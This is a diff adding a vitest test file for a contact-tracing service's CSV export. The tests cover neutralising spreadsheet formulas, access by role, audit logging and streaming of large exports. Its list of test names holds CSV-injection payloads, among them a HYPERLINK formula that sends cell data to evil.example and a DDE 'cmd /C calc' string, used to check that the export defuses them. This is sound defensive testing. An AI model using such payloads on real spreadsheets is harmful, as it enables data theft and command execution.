@@ -1,0 +1,167 @@
+/**
+ * The export of contacts: what a spreadsheet makes of nasty names, who gets it, what is put on record, and
+ * that a large one is not held in memory or in a transaction.
+ */
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { newTraceId } from '../../shared/ids.ts';
+import { createNodeHttp, type NodeHttp } from '../support/node-http.ts';
+
+let node: NodeHttp;
+/** Of another province; with a contact for each name. */
+let trace: string;
+
+const NAMES = [
+  'Nguyễn Văn "Tí", phường 3',
+  '=HYPERLINK("https://evil.example/?x="&A1,"An")',
+  '+84912345678',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '-1+1',
+  'An;=1+1',
+];
+const HERE = '07210';
+const THERE = '07303';
+
+beforeAll(async () => {
+  node = await createNodeHttp();
+  const rows = NAMES.map((name, i) => `phone:091200000${i},"${name.replaceAll('"', '""')}",24`);
+  const body = ['identifiers,name,province', ...rows, ''].join('\n');
+  const report = await node.call('POST', '/v1/imports/persons', {
+    text: body,
+    headers: { 'content-type': 'text/csv' },
+  });
+  expect(report.body).toMatchObject({ accepted: NAMES.length });
+  trace = await addTrace(NAMES.length);
+});
+afterAll(() => node[Symbol.asyncDispose]());
+
+/** A trace with `count` contacts, the first of which are the imported people; odd ones are in another ward. */
+async function addTrace(count: number): Promise<string> {
+  const id = newTraceId();
+  await node.db.sql`INSERT INTO openings VALUES (${id}, '79', 0, 'x', 0)`;
+  await node.db.sql`
+    INSERT INTO contacts (trace_id, contact_id, degree, first_exposed_at, last_exposed_at, seconds, settings,
+      place_kinds, exposed_in, identifier_ids, ward, delivery)
+    SELECT ${id}, lpad(to_hex(n), 32, '0'), 1, 1622505600, 1622509200, 900, 3, 1, '{24,79}',
+      ARRAY(SELECT id FROM identifiers ORDER BY id LIMIT 1 OFFSET n),
+      CASE WHEN n % 2 = 0 THEN ${HERE} ELSE ${THERE} END, 1
+    FROM generate_series(0, ${count - 1}) AS n`;
+  return id;
+}
+
+const everything = { roles: ['epidemiologist@24'], subject: 'epi' };
+const path = (id: string) => `/v1/traces/${id}/contacts.csv`;
+const rowsOf = (text: string) =>
+  parse(text, { columns: true, bom: true }) as {
+    id: string;
+    name: string;
+    identifiers: string;
+    ward: string;
+  }[];
+
+/** Entries of exports of a trace, oldest first. */
+async function entriesOf(id: string) {
+  const rows = await node.db.sql<{ body: string }[]>`SELECT body FROM audit_records ORDER BY id`;
+  return rows
+    .map(({ body }) => JSON.parse(body))
+    .filter(({ action, trace }) => action === 'contacts.exported' && trace === id);
+}
+
+test('holds what the JSON holds, with every name as harmless text', async () => {
+  const { status, body, headers } = await node.call('GET', path(trace), everything);
+  expect(status).toBe(200);
+  expect(headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
+  expect(headers.get('content-disposition')).toBe(`attachment; filename="truyvet-${trace}.csv"`);
+  expect(headers.get('x-content-type-options')).toBe('nosniff');
+  const { contacts } = (await node.call('GET', `/v1/traces/${trace}/contacts`, everything)).body;
+  const rows = rowsOf(body);
+  expect(rows).toHaveLength(NAMES.length);
+  for (const [i, row] of rows.entries()) {
+    expect(Object.keys(row).sort()).toEqual(Object.keys(contacts[i]).sort());
+    expect({ ...row, name: '' }).toEqual({
+      ...Object.fromEntries(
+        Object.entries(contacts[i]).map(([k, v]) => [k, Array.isArray(v) ? v.join(' ') : String(v ?? '')]),
+      ),
+      name: '',
+    });
+  }
+  expect(contacts.map(({ name }: { name: string }) => name).sort()).toEqual(NAMES.toSorted());
+  const cells = rows.flatMap((row) => Object.values(row));
+  expect(cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
+  expect(rows.map(({ name }) => name)).toContain('Nguyễn Văn "Tí", phường 3');
+});
+
+test('begins with the mark that spreadsheets look for', async () => {
+  const { issuer } = node;
+  const token = await issuer.issue({ audience: 'truyvet-node-24', ...everything });
+  const response = await node.fetch(path(trace), { headers: { authorization: `Bearer ${token}` } });
+  const bytes = new Uint8Array(await response.arrayBuffer());
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+});
+
+test.each([
+  ['lab@24', 403],
+  ['integrator@24', 403],
+  ['operator@24', 403],
+  ['epidemiologist@79', 403],
+  ['ward_tracer@07000', 403],
+])('is refused to %s, on record', async (role, status) => {
+  const answer = await node.call('GET', path(trace), { roles: [role], subject: 'somebody' });
+  expect([answer.status, answer.body.reason]).toEqual([status, 'ROLE_REQUIRED']);
+  const [row] = await node.db.sql<
+    { body: string }[]
+  >`SELECT body FROM audit_records ORDER BY id DESC LIMIT 1`;
+  expect(JSON.parse(row?.body ?? '')).toMatchObject({
+    outcome: 'refused',
+    actor: { id: 'somebody' },
+    detail: { group: 'contacts.export' },
+  });
+});
+
+test('gives a ward its own contacts, and what it asks of another ward is empty', async () => {
+  const tracer = { roles: [`ward_tracer@${HERE}`], subject: 'tracer' };
+  const own = rowsOf((await node.call('GET', path(trace), tracer)).body);
+  expect(own.map(({ ward }) => ward)).toEqual([HERE, HERE, HERE]);
+  expect(rowsOf((await node.call('GET', `${path(trace)}?ward=${THERE}`, tracer)).body)).toEqual([]);
+  const elsewhere = { roles: ['ward_tracer@07213'], subject: 'elsewhere' };
+  const answers = [
+    await node.call('GET', path(trace), elsewhere),
+    await node.call('GET', path(newTraceId()), elsewhere),
+  ];
+  expect(answers.map(({ status, body }) => [status, body.reason])).toEqual([
+    [404, 'NO_SUCH_TRACE'],
+    [404, 'NO_SUCH_TRACE'],
+  ]);
+});
+
+test('is on record page by page, with who, how many and which, and never a name', async () => {
+  const id = await addTrace(2_500);
+  const rows = rowsOf((await node.call('GET', path(id), everything)).body);
+  expect(rows).toHaveLength(2_500);
+  expect(new Set(rows.map((row) => row.id)).size).toBe(2_500);
+  const entries = await entriesOf(id);
+  expect(entries).toMatchObject(
+    [1_000, 1_000, 500].map((count) => ({
+      outcome: 'done',
+      actor: { kind: 'person', id: 'epi' },
+      detail: { count },
+    })),
+  );
+  const recorded = entries.flatMap(({ detail }) => detail.contacts as string[]);
+  expect(recorded).toEqual(rows.map((row) => row.id));
+  for (const name of NAMES) expect(JSON.stringify(entries)).not.toContain(name.slice(0, 8));
+});
+
+test('reads no further than its reader, holds no transaction meanwhile, and records only what went out', async () => {
+  const id = await addTrace(20_000);
+  const token = await node.issuer.issue({ audience: 'truyvet-node-24', ...everything });
+  const response = await node.fetch(path(id), { headers: { authorization: `Bearer ${token}` } });
+  const reader = response.body?.getReader() as ReadableStreamDefaultReader<Uint8Array>;
+  for (let i = 0; i < 3; i++) await reader.read();
+  const [open] = await node.db.sql<{ count: number }[]>`
+    SELECT count(*)::int AS count FROM pg_stat_activity
+    WHERE datname = current_database() AND state LIKE 'idle in transaction%'`;
+  expect(open?.count).toBe(0);
+  await reader.cancel();
+  expect((await entriesOf(id)).length).toBeLessThan(6);
+});
